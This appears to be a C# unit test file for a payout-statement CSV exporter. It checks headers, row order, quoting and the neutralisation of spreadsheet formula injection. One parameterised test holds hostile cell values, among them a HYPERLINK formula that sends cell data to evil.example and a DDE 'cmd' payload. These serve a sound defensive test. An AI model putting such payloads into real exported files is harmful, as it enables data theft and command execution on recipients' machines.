using Pipeline.Statements.Csv;
using Pipeline.Statements.Tests.Builders;
using Pipeline.Statements.Tests.Support;

namespace Pipeline.Statements.Tests;

public sealed class StatementCsvWriterTests
{
    [Fact]
    public void Csv_has_a_bom_a_header_and_one_row_per_line_in_payout_order()
    {
        var result = TestStatements.TypicalAgency();

        var rows = CsvRows.Parse(StatementCsvWriter.Write(TestStatements.For(result)));

        Assert.Equal(["quarter", "partner_id", "partner_name", "rule_id", "description", "basis", "rate", "amount", "formula"], rows[0]);
        Assert.Equal(result.Lines.Select(l => l.RuleId), rows.Skip(1).Select(r => r[3]));
        Assert.Equal(["2026Q3", "AG-0042", "Zürich Média Ünion", "base", "Base fee, tier above", "20000.00", "1.0", "20000.00"], rows[1][..8]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Text_cells_starting_with_a_formula_character_are_neutralised(string hostile)
    {
        var result = PayoutResultBuilder.Agency()
            .Partner(hostile, hostile)
            .Line("base", hostile, 100m, 1m)
            .Build();

        var row = CsvRows.Parse(StatementCsvWriter.Write(TestStatements.For(result)))[1];

        Assert.Equal("'" + hostile, row[1]); // partner id
        Assert.Equal("'" + hostile, row[2]); // partner name
        Assert.Equal("'" + hostile, row[4]); // description
        Assert.Equal("100.00", row[7]);
    }

    [Fact]
    public void Negative_amounts_stay_plain_numbers_while_ordinary_text_is_untouched()
    {
        var rows = CsvRows.Parse(StatementCsvWriter.Write(TestStatements.For(TestStatements.TypicalReseller())));

        var clawback = rows.Single(r => r[3] == "clawback");
        Assert.Equal("-1163.75", clawback[7]);
        Assert.Equal("0.0931", clawback[6]);
        Assert.Equal("Deal D-1043 refunded", clawback[4]);
    }

    [Fact]
    public void Commas_quotes_and_line_breaks_in_text_survive_a_round_trip()
    {
        const string description = "Band \"A\", second half\nof the quarter";
        var result = PayoutResultBuilder.Agency().Line("base", description, 10m, 1m).Build();

        var rows = CsvRows.Parse(StatementCsvWriter.Write(TestStatements.For(result)));

        Assert.Equal(description, rows[1][4]);
    }
}
